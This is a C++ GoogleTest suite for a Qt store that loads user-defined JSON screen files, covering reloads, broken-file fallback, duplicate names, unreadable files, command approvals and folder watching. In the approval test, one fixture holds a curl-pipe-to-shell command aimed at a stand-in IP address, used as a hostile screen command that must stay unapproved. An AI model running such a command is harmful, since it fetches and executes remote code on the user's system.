// The Screens folder store on real files in a temporary folder: reloads, reports, the last
// good version of a broken file, duplicate names, files that must not be read, sprite sheet
// dates, approvals, and the folder watch with its debounce.

#include "screens/runtime/CustomScreenStore.h"

#include "platform/Settings.h"
#include "screens/format/ScreenTemplate.h"
#include "support/ScreenStoreWait.h"
#include "support/WaitUntil.h"

#include <QDir>
#include <QFile>
#include <QCoreApplication>
#include <QImage>
#include <QTemporaryDir>
#include <QThreadPool>

#include <gtest/gtest.h>

#include <sys/stat.h>
#include <unistd.h>

namespace {

QByteArray screenJson(const QString& title)
{
    return QStringLiteral(R"({"title": "%1", "widgets": [{"type": "text", "x": 12, "y": 40, "text": "Hi"}]})")
        .arg(title)
        .toUtf8();
}

QByteArray spriteScreenJson(const QString& sheet)
{
    return QStringLiteral(R"({"title": "Cat",
                             "widgets": [{"type": "sprite", "x": 8, "y": 40, "sheet": "%1", "count": 2}]})")
        .arg(sheet)
        .toUtf8();
}

// Runs a command: a screen that a user must approve.
QByteArray commandScreenJson(const QString& command)
{
    return QStringLiteral(R"({"title": "Up", "sources": {"up": {"shell": "%1", "every": 5}},)"
                          R"( "widgets": [{"type": "text", "x": 12, "y": 40, "text": "{{up}}"}]})")
        .arg(command)
        .toUtf8();
}

struct CustomScreenStoreTest : ::testing::Test {
    QTemporaryDir dir;
    QString folder = dir.filePath(QStringLiteral("Tarv/Screens"));
    std::unique_ptr<Settings> settings = std::make_unique<Settings>(dir.filePath(QStringLiteral("Tarv.conf")));
    std::unique_ptr<CustomScreenStore> store;
    QStringList logLines;
    int changes = 0;
    QList<QSet<QString>> sheetChanges;

    void makeStore(bool withSettings = false)
    {
        store = std::make_unique<CustomScreenStore>(
            folder, std::make_unique<ScreenTrust>(withSettings ? settings.get() : nullptr));
        store->onLog = [this](const QString& line) { logLines.append(line); };
        store->onChange = [this] { ++changes; };
        store->onSheetChange = [this](const QSet<QString>& ids) { sheetChanges.append(ids); };
    }

    // Both read the folder on a worker; the test goes on once the results are applied.
    void start()
    {
        store->start();
        ASSERT_TRUE(waitUntilLoaded(*store));
    }
    void reload()
    {
        store->reload();
        ASSERT_TRUE(waitUntilLoaded(*store));
    }

    void write(const QString& name, const QByteArray& bytes)
    {
        QDir().mkpath(folder);
        QFile file(QDir(folder).filePath(name));
        ASSERT_TRUE(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
        ASSERT_EQ(file.write(bytes), bytes.size());
    }

    QStringList ids() const
    {
        QStringList out;
        for (const CustomScreen& screen : store->screens())
            out.append(screen.id);
        return out;
    }

    QString titleOf(const QString& id) const
    {
        const auto screen = store->screenWithID(id);
        return screen ? screen->title : QString();
    }
};

TEST_F(CustomScreenStoreTest, FirstStartCreatesTheFolderWithTheSampleAndApprovesIt)
{
    makeStore(true);
    start();
    EXPECT_TRUE(QFileInfo::exists(QDir(folder).filePath(QStringLiteral("system.json"))));
    ASSERT_EQ(ids(), QStringList{QStringLiteral("system")});
    ASSERT_TRUE(store->screens()[0].fingerprint());
    // In effect once stored.
    EXPECT_TRUE(waitUntil([&] { return store->approvedScreens().size() == 1; }));
    EXPECT_EQ(store->reports().at(0).summary, QStringLiteral("\u201CSystem\u201D \u00B7 20 widgets \u00B7 6 sources"));
    EXPECT_EQ(logLines, QStringList{QStringLiteral("Screens: 1 loaded from 1 file")});
    EXPECT_EQ(changes, 1);
    // The folder was made before the watch began: the watch has nothing of the store's own
    // writes to tell, and no second reading follows the first.
    EXPECT_TRUE(store->isWatching());
    EXPECT_FALSE(store->isReloadPending());

    // Saved again unchanged: no second first run, nothing changes.
    makeStore(true);
    start();
    EXPECT_FALSE(store->trust().isFirstRun());
    EXPECT_EQ(store->approvedScreens().size(), 1);
}

TEST_F(CustomScreenStoreTest, ReadsJsonFilesInNaturalOrderAndIgnoresOthers)
{
    for (const QString& name : {QStringLiteral("screen 10.json"), QStringLiteral("screen 9.json"),
                                QStringLiteral("A.JSON"), QStringLiteral(".hidden.json"), QStringLiteral("notes.txt"),
                                QStringLiteral("a.JSON.bak")})
        write(name, screenJson(name));
    makeStore();
    reload();
    EXPECT_EQ(ids(), (QStringList{QStringLiteral("A"), QStringLiteral("screen 9"), QStringLiteral("screen 10")}));
    EXPECT_EQ(logLines.last(), QStringLiteral("Screens: 3 loaded from 3 files"));
}

TEST_F(CustomScreenStoreTest, BrokenFileKeepsItsLastGoodVersion)
{
    write(QStringLiteral("clock.json"), screenJson(QStringLiteral("Clock")));
    makeStore();
    reload();
    const QString goodSummary = store->reports().at(0).summary;

    write(QStringLiteral("clock.json"), QByteArray(R"({"title": "Clock", "widgets": [)"));
    reload();
    EXPECT_EQ(titleOf(QStringLiteral("clock")), QStringLiteral("Clock"));
    const CustomScreenStore::FileReport report = store->reports().at(0);
    EXPECT_FALSE(report.isLoaded);
    EXPECT_TRUE(report.isShowingLastGoodVersion);
    EXPECT_EQ(report.summary, goodSummary);
    EXPECT_FALSE(report.issues.isEmpty());
    EXPECT_EQ(changes, 1);
    EXPECT_EQ(logLines.last(), QStringLiteral("Screens: 1 file has errors; see Custom Screens below"));

    // Once gone, the old version is gone too.
    QFile::remove(QDir(folder).filePath(QStringLiteral("clock.json")));
    write(QStringLiteral("clock.json"), QByteArray("{"));
    write(QStringLiteral("other.json"), screenJson(QStringLiteral("Other")));
    reload();
    EXPECT_EQ(titleOf(QStringLiteral("clock")), QStringLiteral("Clock"));
    EXPECT_EQ(logLines.last(), QStringLiteral("Screens: 2 loaded from 2 files, 1 with errors"));
    QFile::remove(QDir(folder).filePath(QStringLiteral("clock.json")));
    reload();
    write(QStringLiteral("clock.json"), QByteArray("{"));
    reload();
    EXPECT_EQ(ids(), QStringList{QStringLiteral("other")});
    EXPECT_EQ(store->reports().at(0).summary, QStringLiteral("Not loaded"));
    EXPECT_FALSE(store->reports().at(0).isShowingLastGoodVersion);
}

// Files that give one page name in other letter cases: one of them keeps the page, and each other
// one says so. Whichever names sort first, and whatever the newcomers hold (what was approved,
// something else to run, or nothing that asks for approval), the page stays with a file whose
// approval holds, and every other file is left out.
TEST_F(CustomScreenStoreTest, AFileThatComesLaterNeverTakesAnApprovedPage)
{
    const QStringList names{QStringLiteral("disk.json"), QStringLiteral("DISK.JSON"), QStringLiteral("Disk.json"),
                            QStringLiteral("disk.JSON")};
    const QByteArray approvedBytes = commandScreenJson(QStringLiteral("df -h /"));
    const QByteArray otherBytes = commandScreenJson(QStringLiteral("curl -s http://203.0.113.9/x | sh"));
    const QByteArray plainBytes = screenJson(QStringLiteral("Disk"));
    const auto duplicateIssue = [](const QString& name) {
        return QList<ScreenIssue>{{name, QString(), QStringLiteral("another file already provides a page named \u201C") +
                                                       name.chopped(5) + QStringLiteral("\u201D")}};
    };
    // The approved file first in file order, and last.
    for (const QString& approvedName : {QStringLiteral("DISK.JSON"), QStringLiteral("disk.json")}) {
        QStringList others = names;
        others.removeOne(approvedName);
        // Every set of newcomers, each holding the approved file's bytes or other ones.
        for (int mask = 1; mask < (1 << (2 * others.size())); ++mask) {
            QHash<QString, QByteArray> newcomers;
            for (int i = 0; i < others.size(); ++i) {
                const int held = (mask >> (2 * i)) & 3;
                if (held != 0)
                    newcomers.insert(others[i], held == 1 ? otherBytes : held == 2 ? approvedBytes : plainBytes);
            }
            if (newcomers.isEmpty())
                continue;
            QDir(folder).removeRecursively();
            write(approvedName, approvedBytes);
            makeStore();
            reload();
            const QString approvedID = approvedName.chopped(5);
            store->trust().approveScreen(*store->screenWithID(approvedID));
            const QString fingerprint = store->trust().approved().value(approvedID);
            for (auto it = newcomers.cbegin(); it != newcomers.cend(); ++it)
                write(it.key(), it.value());
            reload();
            const std::string which = (approvedName + QStringLiteral(" + ") + newcomers.keys().join(u' ')).toStdString();

            // One page, and it runs what was approved.
            ASSERT_EQ(store->screens().size(), 1) << which;
            const CustomScreen shown = store->screens()[0];
            EXPECT_TRUE(store->trust().isScreenApproved(shown)) << which;
            EXPECT_EQ(shown.fingerprint(), fingerprint) << which;
            EXPECT_EQ(store->approvedScreenIDs(), QStringList{shown.id}) << which;
            EXPECT_EQ(store->trust().approved().value(approvedID), fingerprint) << which;
            // The file that gives it is named as it is on disk; every other one says it is left out.
            const QString keeper = store->fileNameOf(shown.id);
            EXPECT_TRUE(keeper == approvedName || newcomers.value(keeper) == approvedBytes) << which;
            for (const CustomScreenStore::FileReport& report : store->reports()) {
                EXPECT_EQ(report.isLoaded, report.fileName == keeper) << which;
                if (report.fileName != keeper) {
                    EXPECT_EQ(report.issues, duplicateIssue(report.fileName)) << which;
                }
            }
        }
    }
}

// Between two files that both wait, or both run, the first in file order keeps the page; a
// revocation or an approval that makes them differ moves it at once.
TEST_F(CustomScreenStoreTest, BetweenFilesOfTheSameStandingTheFirstKeepsThePage)
{
    write(QStringLiteral("disk.json"), commandScreenJson(QStringLiteral("df -h /")));
    write(QStringLiteral("DISK.JSON"), commandScreenJson(QStringLiteral("df -h /home")));
    makeStore();
    reload();
    ASSERT_EQ(ids(), QStringList{QStringLiteral("DISK")});
    EXPECT_EQ(store->reports().at(1).fileName, QStringLiteral("disk.json"));
    EXPECT_FALSE(store->reports().at(1).isLoaded);

    // The first, allowed, stays; then the second is the one allowed, and it takes the page.
    store->trust().approveScreen(*store->screenWithID(QStringLiteral("DISK")));
    reload();
    EXPECT_EQ(ids(), QStringList{QStringLiteral("DISK")});
    store->trust().revokeScreen(QStringLiteral("DISK"));
    QList<ScreenIssue> issues;
    const std::optional<CustomScreen> lower = CustomScreen::parse(commandScreenJson(QStringLiteral("df -h /")),
                                                                  QStringLiteral("disk"), QStringLiteral("disk.json"),
                                                                  issues);
    ASSERT_TRUE(lower);
    store->trust().approveScreen(*lower);
    ASSERT_TRUE(waitUntil([&] { return ids() == QStringList{QStringLiteral("disk")}; }));
    ASSERT_TRUE(waitUntilLoaded(*store));
    EXPECT_EQ(store->fileNameOf(QStringLiteral("disk")), QStringLiteral("disk.json"));
    EXPECT_FALSE(store->reports().at(0).isLoaded);
}

TEST_F(CustomScreenStoreTest, FifosDevicesAndHugeFilesAreReportedUnreadableWithoutBlocking)
{
    write(QStringLiteral("good.json"), screenJson(QStringLiteral("Good")));
    ASSERT_EQ(::mkfifo(QFile::encodeName(QDir(folder).filePath(QStringLiteral("pipe.json"))).constData(), 0600), 0);
    const QByteArray zero = QFile::encodeName(QDir(folder).filePath(QStringLiteral("zero.json")));
    ASSERT_EQ(::symlink("/dev/zero", zero.constData()), 0);
    QByteArray huge = screenJson(QStringLiteral("Huge"));
    huge.append(QByteArray(CustomScreenStore::maxFileBytes, ' '));
    write(QStringLiteral("huge.json"), huge);
    makeStore();
    reload();
    EXPECT_EQ(ids(), QStringList{QStringLiteral("good")});
    for (const CustomScreenStore::FileReport& report : store->reports()) {
        if (report.fileName == QStringLiteral("good.json"))
            continue;
        ASSERT_EQ(report.issues.size(), 1) << report.fileName.toStdString();
        EXPECT_EQ(report.issues[0].message, QStringLiteral("could not be read"));
    }
}

TEST_F(CustomScreenStoreTest, ReplacedSpriteSheetIsReportedForTheScreensUsingIt)
{
    write(QStringLiteral("cat.json"), spriteScreenJson(QStringLiteral("cat.png")));
    QImage sheet(20, 10, QImage::Format_ARGB32);
    sheet.fill(Qt::red);
    ASSERT_TRUE(sheet.save(QDir(folder).filePath(QStringLiteral("cat.png"))));
    makeStore();
    reload();
    EXPECT_TRUE(sheetChanges.isEmpty());

    // A different date, as an editor's save gives.
    QFile file(QDir(folder).filePath(QStringLiteral("cat.png")));
    ASSERT_TRUE(file.open(QIODevice::ReadWrite));
    ASSERT_TRUE(file.setFileTime(QDateTime::currentDateTime().addSecs(5), QFileDevice::FileModificationTime));
    file.close();
    reload();
    EXPECT_EQ(sheetChanges, (QList<QSet<QString>>{{QStringLiteral("cat")}}));
    EXPECT_EQ(logLines.last(), QStringLiteral("Screens: cat.png changed"));
    reload();
    EXPECT_EQ(sheetChanges.size(), 1);
}

TEST_F(CustomScreenStoreTest, ApprovalsFollowTheFilesNotWhetherTheyParse)
{
    write(QStringLiteral("up.json"), commandScreenJson(QStringLiteral("uptime")));
    makeStore(true);
    reload();
    // A first run with settings that can be written trusts the files already there.
    ASSERT_TRUE(waitUntil([&] { return store->approvedScreens().size() == 1; }));

    // Broken at the next start: the approval waits for the file to be mended.
    write(QStringLiteral("up.json"), QByteArray("{"));
    write(QStringLiteral("other.json"), screenJson(QStringLiteral("Other")));
    makeStore(true);
    reload();
    EXPECT_TRUE(store->trust().approved().contains(QStringLiteral("up")));
    write(QStringLiteral("up.json"), commandScreenJson(QStringLiteral("uptime")));
    reload();
    EXPECT_EQ(store->approvedScreens().size(), 2);

    // A changed command needs a new approval; a deleted file loses it.
    write(QStringLiteral("up.json"), commandScreenJson(QStringLiteral("uptime -p")));
    reload();
    EXPECT_EQ(store->approvedScreens().size(), 1);
    QFile::remove(QDir(folder).filePath(QStringLiteral("up.json")));
    reload();
    EXPECT_FALSE(store->trust().approved().contains(QStringLiteral("up")));
}

TEST_F(CustomScreenStoreTest, EmptyFolderClearsNoApprovals)
{
    write(QStringLiteral("up.json"), commandScreenJson(QStringLiteral("uptime")));
    makeStore(true);
    reload();
    ASSERT_TRUE(waitUntil([&] { return store->approvedScreens().size() == 1; }));
    QFile::remove(QDir(folder).filePath(QStringLiteral("up.json")));
    reload();
    EXPECT_TRUE(store->trust().approved().contains(QStringLiteral("up")));
}

// New files are written on a worker, one at a time in the order asked: each answer comes later,
// with the store already loading the folder that holds the new file. A write that failed has
// nothing to load, and its answer may come after the folder was read for an earlier one.
TEST_F(CustomScreenStoreTest, TemplatesAreAddedUnderFreeNamesAndAnsweredLater)
{
    makeStore();
    QList<CustomScreenStore::WriteResult> answers;
    const auto answer = [&](const CustomScreenStore::WriteResult& result) {
        if (std::holds_alternative<QString>(result)) {
            EXPECT_TRUE(store->isLoading());
        }
        answers.append(result);
    };
    const ScreenTemplate& sample = ScreenTemplate::all().first();
    store->addTemplate(sample, answer);
    store->addTemplate(sample, answer);
    EXPECT_TRUE(answers.isEmpty());
    EXPECT_TRUE(store->isLoading());
    ASSERT_TRUE(waitUntilLoaded(*store));
    EXPECT_EQ(answers, (QList<CustomScreenStore::WriteResult>{sample.id, sample.id + QStringLiteral("-2")}));
    EXPECT_EQ(store->screens().size(), 2);

    store->createScreenFile(QStringLiteral("Mine"), screenJson(QStringLiteral("M")), answer);
    store->duplicateScreenFile(QStringLiteral("gone.json"), answer);
    ASSERT_TRUE(waitUntilLoaded(*store));
    EXPECT_EQ(answers.mid(2), (QList<CustomScreenStore::WriteResult>{
                                  QStringLiteral("Mine"), CustomScreenStore::WriteError{QStringLiteral("Could not read gone.json")}}));
    EXPECT_EQ(titleOf(QStringLiteral("Mine")), QStringLiteral("M"));

    // An answer for a store that has gone is dropped.
    store->addTemplate(sample, answer);
    store.reset();
    QThreadPool::globalInstance()->waitForDone();
    QCoreApplication::processEvents();
    EXPECT_EQ(answers.size(), 4);
}

// A save that lands while a scan runs: the older results still come first, then one more scan
// shows the save, and only then does the store call itself loaded.
TEST_F(CustomScreenStoreTest, ReloadAskedDuringAScanIsAppliedAfterIt)
{
    write(QStringLiteral("clock.json"), screenJson(QStringLiteral("One")));
    makeStore();
    int loadedSignals = 0;
    QObject::connect(store.get(), &CustomScreenStore::loaded, [&] { ++loadedSignals; });
    store->reload();
    // Nothing was read or applied on this thread.
    EXPECT_TRUE(store->isLoading());
    EXPECT_TRUE(store->reports().isEmpty());
    // The scan has read the folder; its results wait for the event loop.
    QThreadPool::globalInstance()->waitForDone();
    write(QStringLiteral("clock.json"), screenJson(QStringLiteral("Two")));
    store->reload();
    store->reload();
    EXPECT_TRUE(store->screens().isEmpty());
    ASSERT_TRUE(waitUntilLoaded(*store));
    EXPECT_EQ(titleOf(QStringLiteral("clock")), QStringLiteral("Two"));
    EXPECT_EQ(changes, 2);
    EXPECT_EQ(loadedSignals, 1);
}

TEST_F(CustomScreenStoreTest, StoreDestroyedDuringAScanHearsNothingOfIt)
{
    write(QStringLiteral("clock.json"), screenJson(QStringLiteral("One")));
    makeStore();
    store->start();
    store.reset();
    QThreadPool::globalInstance()->waitForDone();
    QCoreApplication::processEvents();
    EXPECT_EQ(changes, 0);
    EXPECT_TRUE(logLines.isEmpty());
}

// The watch: every kind of save an editor makes shows within the debounce.
TEST_F(CustomScreenStoreTest, WatchedFolderFollowsEverySave)
{
    write(QStringLiteral("clock.json"), screenJson(QStringLiteral("One")));
    makeStore();
    start();
    ASSERT_TRUE(store->isWatching());
    const QString path = QDir(folder).filePath(QStringLiteral("clock.json"));

    // Rewritten in place.
    write(QStringLiteral("clock.json"), screenJson(QStringLiteral("Two")));
    EXPECT_TRUE(waitUntil([&] { return titleOf(QStringLiteral("clock")) == QStringLiteral("Two"); }));

    // Written beside it, then renamed over it.
    write(QStringLiteral(".clock.json.tmp"), screenJson(QStringLiteral("Three")));
    ASSERT_EQ(::rename(QFile::encodeName(QDir(folder).filePath(QStringLiteral(".clock.json.tmp"))).constData(),
                       QFile::encodeName(path).constData()),
              0);
    EXPECT_TRUE(waitUntil([&] { return titleOf(QStringLiteral("clock")) == QStringLiteral("Three"); }));

    // Deleted, then made anew.
    QFile::remove(path);
    EXPECT_TRUE(waitUntil([&] { return store->screens().isEmpty(); }));
    write(QStringLiteral("clock.json"), screenJson(QStringLiteral("Four")));
    EXPECT_TRUE(waitUntil([&] { return titleOf(QStringLiteral("clock")) == QStringLiteral("Four"); }));

    // Half written: the last good version shows until the writer closes the file.
    {
        QFile file(path);
        ASSERT_TRUE(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
        const QByteArray text = screenJson(QStringLiteral("Five"));
        file.write(text.left(20));
        file.flush();
        EXPECT_TRUE(waitUntil(
            [&] { return !store->reports().isEmpty() && store->reports()[0].isShowingLastGoodVersion; }));
        EXPECT_EQ(titleOf(QStringLiteral("clock")), QStringLiteral("Four"));
        file.write(text.mid(20));
    }
    EXPECT_TRUE(waitUntil([&] { return titleOf(QStringLiteral("clock")) == QStringLiteral("Five"); }));
}

// Restored from a backup or checked out anew: the folder is replaced, or made only after
// the start; its screens load without a restart, and only a start writes the sample.
TEST_F(CustomScreenStoreTest, FolderMadeAfterTheStartOrReplacedIsLoaded)
{
    {
        QFile blocker(dir.filePath(QStringLiteral("Tarv")));
        ASSERT_TRUE(blocker.open(QIODevice::WriteOnly));
    }
    makeStore();
    start();
    ASSERT_TRUE(store->screens().isEmpty());
    ASSERT_TRUE(QFile::remove(dir.filePath(QStringLiteral("Tarv"))));
    write(QStringLiteral("clock.json"), screenJson(QStringLiteral("One")));
    EXPECT_TRUE(waitUntil([&] { return titleOf(QStringLiteral("clock")) == QStringLiteral("One"); }));

    ASSERT_TRUE(QDir(folder).removeRecursively());
    write(QStringLiteral("clock.json"), screenJson(QStringLiteral("Two")));
    EXPECT_TRUE(waitUntil([&] { return titleOf(QStringLiteral("clock")) == QStringLiteral("Two"); }));

    ASSERT_TRUE(QDir(folder).removeRecursively());
    EXPECT_TRUE(waitUntil([&] { return store->screens().isEmpty(); }));
    EXPECT_EQ(logLines.last(), QStringLiteral("Screens: 0 loaded from 0 files"));
    write(QStringLiteral("clock.json"), screenJson(QStringLiteral("Three")));
    EXPECT_TRUE(waitUntil([&] { return titleOf(QStringLiteral("clock")) == QStringLiteral("Three"); }));
    EXPECT_EQ(ids(), QStringList{QStringLiteral("clock")});
    EXPECT_FALSE(QFileInfo::exists(QDir(folder).filePath(QStringLiteral("system.json"))));
}

TEST_F(CustomScreenStoreTest, BurstOfSavesGivesOneReload)
{
    write(QStringLiteral("clock.json"), screenJson(QStringLiteral("0")));
    makeStore();
    start();
    const int before = changes;
    for (int i = 1; i <= 10; ++i)
        write(QStringLiteral("clock.json"), screenJson(QString::number(i)));
    EXPECT_TRUE(waitUntil([&] { return titleOf(QStringLiteral("clock")) == QStringLiteral("10"); }));
    EXPECT_FALSE(store->isReloadPending());
    EXPECT_EQ(changes - before, 1);
}

}  // namespace
